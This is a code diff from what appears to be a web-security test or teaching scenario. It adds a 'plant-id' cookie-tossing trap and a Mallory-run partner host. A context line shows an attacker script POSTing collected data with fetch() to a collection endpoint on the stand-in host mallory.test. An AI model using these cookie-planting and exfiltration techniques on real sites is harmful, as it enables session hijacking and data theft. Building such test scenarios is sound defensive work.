@@ -4,6 +4,8 @@ import type { Trap } from '../scenario/index.ts'
 
 export const MALLORY = 'https://mallory.test'
 export const SIBLING = 'https://blog.shop.test'
+/** A service that the shop's page works with; Mallory operates it. */
+export const PARTNER = 'https://partner.test'
 const SHOP = 'https://shop.test'
 
 /** Where his scripts send what they find. */
@@ -58,4 +60,7 @@ await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.
 
   /** The answer itself is the attack: its Set-Cookie is for the whole of shop.test. */
   'cookie-toss': { url: `${SIBLING}/toss`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },
+
+  /** So it is here: its Set-Cookie is for the login alone. */
+  'plant-id': { url: `${SIBLING}/plant`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },
 }
